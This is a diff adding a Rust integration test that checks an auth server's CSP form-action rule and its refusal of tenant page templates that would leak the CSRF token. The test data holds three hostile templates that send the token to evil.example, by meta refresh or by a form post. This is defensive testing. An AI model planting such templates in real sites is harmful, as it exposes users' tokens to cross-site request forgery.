@@ -1968,6 +1968,57 @@ async fn n1_s32_a_page_template_that_would_build_gigabytes_falls_back_to_the_bui
     }
 }
 
+/// N12, S34: forms on the hosted pages post only to this origin, and end (after a completed
+/// sign-in) only at the client's: the CSP's `form-action` says so. A tenant's page template
+/// never holds the CSRF token: one that would send it to another site (a `<meta>` refresh, a
+/// form posting elsewhere) is not served, and the built-in page stands in with a working form.
+#[tokio::test]
+async fn n12_s34_forms_post_here_and_tenant_templates_cannot_send_page_secrets_away() {
+    let server = TestServer::start().await;
+    let client = relying_party(&server, json!({}), "mallory.victim@example.com").await;
+    let mut browser = Browser::new(&server);
+    let asked = ask_for_link(&mut browser, &client, "mallory.victim@example.com", &[]).await;
+    let csp = asked.headers["content-security-policy"].to_str().unwrap().to_owned();
+    assert!(
+        csp.contains("form-action 'self' https://app.example;"),
+        "{csp}"
+    );
+    let link = client.link(&server, json!({})).await;
+    let page = Browser::new(&server).get(&link).await;
+    let csp = page.headers["content-security-policy"].to_str().unwrap();
+    assert!(csp.contains("form-action 'self' https://app.example;"), "{csp}");
+
+    let tenant = format!("/api/tenant/{}", server.default_tenant());
+    let leaks = [
+        "{% extends \"layout.html\" %}{% block content %}<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/?t={{ csrf }}\"><form method=\"post\" action=\"/oauth2/passwordless\"><input type=\"hidden\" name=\"csrf\" value=\"{{ csrf }}\">{% for field in hidden %}<input type=\"hidden\" name=\"{{ field[0] }}\" value=\"{{ field[1] }}\">{% endfor %}<input type=\"email\" name=\"email\"><button>Go</button></form>{% endblock %}",
+        "{% extends \"layout.html\" %}{% block content %}<form method=\"post\" action=\"https://evil.example/collect\"><input type=\"hidden\" name=\"csrf\" value=\"{{ csrf }}\"><button>Go</button></form>{% endblock %}",
+        "{% extends \"layout.html\" %}{% block content %}<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/?t={{ csrf | reverse }}\">{% endblock %}",
+    ];
+    for (i, leak) in leaks.iter().enumerate() {
+        server
+            .admin(
+                "PATCH",
+                &tenant,
+                json!({"tenant": {"hostedPagesConfiguration": {"templates": {"authorize": leak}}}}),
+            )
+            .await
+            .assert_status(200);
+        server.clock.advance_secs(1);
+        let page = browser.get(&authorize_path(&client, &[])).await;
+        assert_eq!(page.status, 200);
+        if i < 2 {
+            // Refused: the built-in page, its form intact.
+            assert!(!page.html.contains("evil.example"), "{}", page.html);
+            assert!(page.html.contains("type=\"email\""), "{}", page.html);
+            assert!(!page.csrf().is_empty());
+        } else {
+            // Served, but what it reversed was a marker of three characters, never the token.
+            let sent = page.html.split("?t=").nth(1).unwrap().split('"').next().unwrap();
+            assert_eq!(sent.chars().count(), 3, "{sent:?}");
+        }
+    }
+}
+
 #[tokio::test]
 async fn a_tenant_brings_its_own_page_templates_checked_when_saved() {
     let server = TestServer::start().await;
